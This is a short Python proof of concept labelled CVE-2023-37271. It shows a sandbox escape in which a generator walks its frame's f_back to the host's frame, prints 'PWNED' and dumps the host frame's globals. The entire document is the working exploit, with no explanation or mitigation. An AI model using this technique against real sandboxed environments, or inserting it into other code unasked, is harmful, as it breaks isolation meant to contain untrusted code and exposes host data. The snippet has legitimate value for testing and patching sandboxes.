# CVE-2023-37271: a running generator walks its own frame out to the host's.
def walk():
    for frame in [gen.gi_frame.f_back]:
        yield frame
gen = walk()
frame = next(gen)
if frame is not None:
    print("PWNED", frame.f_globals)
